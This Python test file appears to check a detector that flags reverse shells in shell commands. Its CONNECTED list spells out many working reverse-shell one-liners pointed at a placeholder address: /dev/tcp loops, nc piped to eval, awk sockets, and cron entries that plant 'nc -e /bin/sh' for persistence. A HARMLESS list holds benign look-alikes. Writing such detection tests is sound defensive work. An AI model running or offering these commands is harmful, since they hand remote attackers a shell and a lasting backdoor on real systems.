"""Shells that somebody on the network is given: found in each of their forms, and told from what only connects."""

import pytest
from checking import of_shell, one, shell

CONNECTED = [
    # what is read from a descriptor is run
    "exec 5<>/dev/tcp/203.0.113.9/4444\ncat <&5 | while read line; do $line 2>&5 >&5; done",
    'exec 5<>/dev/tcp/203.0.113.9/4444; while read -r line <&5; do eval "$line" >&5; done',
    'exec 5<>/dev/tcp/203.0.113.9/4444; while read -r -u 5 line; do sh -c "$line" >&5 2>&1; done',
    'nc 203.0.113.9 4444 | while read -r line; do eval "$line"; done',
    'coproc nc 203.0.113.9 4444; exec bash <&"${COPROC[0]}" >&"${COPROC[1]}" 2>&1',
    # what a connection answers is run
    'while :; do sh -c "$(nc 203.0.113.9 4444)"; sleep 60; done',
    'eval "$(nc 203.0.113.9 4444)"',
    'bash <<< "$(ncat 203.0.113.9 4444)"',
    "bash <(openssl s_client -quiet -connect 203.0.113.9:443)",
    "nc 203.0.113.9 4444 | xargs -I{} sh -c '{}'",
    # awk
    'awk \'BEGIN { s = "/inet/tcp/0/203.0.113.9/4444"; while (1) { s |& getline c;'
    " while ((c |& getline) > 0) print $0 |& s; close(c) } }'",
    "gawk 'BEGIN { s = \"/inet/tcp/0/203.0.113.9/4444\"; while ((s |& getline c) > 0) system(c) }'",
    # left for cron
    "echo '* * * * * root bash -i >& /dev/tcp/203.0.113.9/4444 0>&1' > /etc/cron.d/sync",
    "echo '* * * * * root bash -c \"bash -i >& /dev/tcp/203.0.113.9/4444 0>&1\"' | sudo tee -a /etc/crontab",
    "printf '%s\\n' '@reboot nc -e /bin/sh 203.0.113.9 4444' | crontab -",
    "cat > /etc/cron.daily/sync <<'EOF'\n#!/bin/sh\nnc -e /bin/sh 203.0.113.9 4444\nEOF",
    "crontab - <<'EOF'\n# sync\n*/5 * * * * nc -e /bin/sh 203.0.113.9 4444\nEOF",
]
HARMLESS = [
    "exec 3<>/dev/tcp/localhost/8080\nprintf 'GET /\\r\\n\\r\\n' >&3\nhead -n 1 <&3\nexec 3>&-",
    'exec 3<>/dev/tcp/localhost/8080; while read -r line <&3; do echo "$line"; done',
    "exec 3<>/dev/tcp/localhost/8080; $CHECK >&3",
    "cat hosts.txt | while read -r line; do $line; done",
    "exec 5>&1; sh check.sh >&5",
    'coproc cat; exec bash <&"${COPROC[0]}"',
    'answer=$(nc -w 2 cache 6379); echo "$answer"',
    'sh -c "echo $(nc -w 2 cache 6379)"',
    'echo stats | nc -w 1 localhost 11211 | while read -r line; do echo "$line"; done',
    "openssl base64 -d -in /tmp/x | sh",
    "bash <(openssl x509 -in /tmp/x)",
    "awk '/inet / { print $2 }'",
    'awk \'BEGIN { s = "/inet/tcp/0/localhost/80"; print "GET /" |& s; while ((s |& getline l) > 0) print l }\'',
    "awk '{ system(\"uptime\") }' /dev/null",
    "echo '0 3 * * * root /opt/backup/run.sh' > /etc/cron.d/backup",
    "echo '* * * * * root bash -i >& /dev/tcp/203.0.113.9/4444 0>&1' > /tmp/example.txt",
    "grep -rnE '/dev/tcp/|nc -e' /etc/cron.d",
    "echo 'never run nc -e /bin/sh' > /etc/cron.d/README",
    "crontab -l",
]


@pytest.mark.parametrize("command", CONNECTED)
def test_a_shell_on_the_network_is_found(command: str) -> None:
    assert "shell-reverse-shell" in of_shell(command)


@pytest.mark.parametrize("command", HARMLESS)
def test_what_only_connects_is_left_alone(command: str) -> None:
    assert "shell-reverse-shell" not in of_shell(command)


@pytest.mark.parametrize(
    "command",
    [
        "exec 5<>/dev/tcp/203.0.113.9/4444",
        "exec 5<>/dev/tcp/203.0.113.9/4444\ncat <&5 | while read line; do $line 2>&5 >&5; done",
        "exec 5<> /dev/tcp/203.0.113.9/4444; echo a >&5",
    ],
)
def test_a_descriptor_to_the_network_can_be_read(command: str) -> None:
    assert "shell-unreadable" not in of_shell(command)


def test_the_message_names_what_is_left_for_cron() -> None:
    found = one("shell-reverse-shell", shell("echo '@reboot root nc -e /bin/sh 203.0.113.9 1' > /etc/cron.d/x"))
    assert found.message == "`nc -e /bin/sh 203.0.113.9 1` hands a shell to the network"
